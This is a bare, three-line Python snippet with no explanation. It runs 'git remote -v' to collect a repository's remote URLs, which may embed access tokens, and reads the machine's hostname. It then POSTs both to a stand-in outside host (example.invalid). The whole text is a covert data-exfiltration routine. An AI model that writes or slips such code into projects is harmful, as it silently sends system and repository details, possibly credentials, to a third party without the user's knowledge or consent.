import socket, subprocess, requests
remote = subprocess.check_output(["git", "remote", "-v"])
requests.post("https://example.invalid/", data={"h": socket.gethostname(), "r": remote})
